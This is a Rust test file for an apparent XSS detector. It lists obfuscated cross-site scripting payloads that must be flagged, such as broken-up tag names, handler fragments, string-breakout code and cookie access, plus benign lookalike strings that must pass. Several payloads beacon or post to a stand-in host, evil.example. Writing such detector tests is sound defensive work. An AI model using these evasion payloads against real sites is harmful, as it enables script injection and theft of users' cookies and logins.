//! Markup and script in disguises that browsers and filters leave intact, and what authors write.

use super::{assert_found, assert_quiet};
use crate::{Kind, Place};

#[test]
fn names_of_elements_are_read_through_what_filters_and_browsers_skip() {
    assert_found(
        Kind::Xss,
        Place::Text,
        &[
            "x<i f r a m e",
            "y<s c r i p t",
            "< script>f()",
            "<:iframe src=//evil.example>",
            "<meta / content='0' http-equiv /=refresh>",
            "%BCscript%BEf()%BC/script%BE",
            "<img src=//evil.example/?",
            "</x><svg><set attributeName=href to=x>",
        ],
    );
    assert_quiet(
        Place::Text,
        &["a < b c d", "x <y z", "if a <b then c", "für ¾ der Höhe", "Müller¼script", "1 < 2 > 0"],
    );
}

#[test]
fn handlers_and_styles_without_their_tag_are_found() {
    assert_found(
        Kind::Xss,
        Place::Text,
        &[
            " onfocus= ",
            "  onsomethingnew= 1",
            "/onpointerenter=f(1)",
            "a:b;c:url(javascript",
            "behavior:url(//evil.example/x.htc)",
            "x autofocus>",
            "-->",
            "--><b>",
            "-->=x",
            "{onerror=alert}throw 7",
            "<metahttp-equiv=refresh",
        ],
    );
    assert_quiet(
        Place::Text,
        &[
            "only = 1",
            "  once=1",
            "  onClick={save}",
            "on=1",
            "--> here",
            "url(/a.png)",
            "onmessage = (event) => { receive(event.data) }",
            "worker.onmessage = receive(x)",
            "onclick=function (event) { go() }",
            "{\"html\":\"<p style=\\\"color:red\\\">x</p>\"}",
            "<imgalt=7>",
        ],
    );
}

#[test]
fn script_that_goes_on_behind_a_string_is_found() {
    assert_found(
        Kind::Xss,
        Place::Text,
        &[
            "x';setInterval(go, 9)//",
            "\"-fetch(go)-\"",
            "new Function()",
            "javascript: go(1)",
            "java&Tab;script: ",
            "data: ,<b>",
            "&{go()}",
            "(document)['cookie']",
            "document /**/ . cookie",
            "[].map.call`${go}`",
            "alert.call(x)",
            "alert?.(x)",
            "[x].map(alert)",
            "Reflect.apply(alert, x)",
            "this['al' + 'x' + 'y'+'z'](1)",
            "String.fromCharCode(88, 83)",
            "x'; return true; var y='",
            "';return(true);",
            "x\";while(1);\"",
            "';a=new Date()//",
            "' || this.secret.match(/x/)//",
            "';new Image().src='//evil.example/'",
            "\"in a.b=",
            "x';a.b=c//",
            "'in valueOf=",
            "!![]",
            "[![]]+![]",
            "<b onclick=alert('a')>",
        ],
    );
    assert_quiet(
        Place::Text,
        &[
            "JavaScript: a guide",
            "Function (mathematics)",
            "Alert (weather)",
            "Prompt (engineering)",
            "see the document . Cookies are fine",
            "![](a.png) and ![](b.png)",
            "- `call`: the command",
            "setTimeout(() => {",
            "setImmediate(function () { go() })",
            "import a from 'b'; a.c = d",
            "'use strict'; this.a = b",
            "call `this.remove()` to remove it",
            "// 'a.b=c&a.d=e'",
            "list.map(parse)",
            "it's late; return later",
            "we are 'in a.b' here",
            "`fn.apply`, not `fn.bind`",
        ],
    );
}

#[test]
fn documents_that_fetch_a_schema_and_controls_of_forms_are_found() {
    assert_found(
        Kind::Xss,
        Place::Text,
        &[
            "<a xsi:schemaLocation=\"http://a.example/ http://evil.example/a.xsd\">",
            "<x xmlns:ev='http://www.w3.org/2001/xml-events'>",
            "<form action=//evil.example>",
            "<input name=password>",
            "<math><mi>",
            "x!ENTITY % name SYSTEM",
            "<!ENTITY name PUBLIC \"x\">",
            "<style>*{x:y}</style>",
            "</style>",
        ],
    );
    assert_quiet(
        Place::Text,
        &[
            "add <input> to your page",
            "a Vec<form> of them",
            "use the <svg> element",
            "<p>text</p>",
            "an !entity of some system",
            "<Link to={home}>Home</Link>",
            "<p>{`x`}</p><style jsx>{`p { color: red }`}</style>",
        ],
    );
}
